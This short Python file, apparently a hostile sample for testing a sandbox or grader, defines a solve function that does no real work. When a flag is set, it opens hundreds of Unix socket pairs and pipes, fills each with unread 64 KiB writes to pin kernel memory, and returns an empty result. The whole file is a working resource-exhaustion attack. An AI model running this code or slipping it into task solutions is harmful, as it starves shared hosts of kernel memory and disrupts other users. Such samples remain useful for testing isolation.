"""Fills pipes and sockets with bytes that nobody reads, which lie in the kernel's memory."""

import os
import socket


def solve(bait):
    kept = []
    for _ in range(400 if bait["enclosed"] else 0):
        try:
            left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            left.setblocking(False)
            _reading, writing = os.pipe()
            os.set_blocking(writing, False)
        except OSError:
            break
        kept += [left, right]
        for write in (left.send, lambda data, to=writing: os.write(to, data)):
            try:
                while True:
                    write(b"x" * 65536)
            except OSError:
                pass
    return {"got": []}
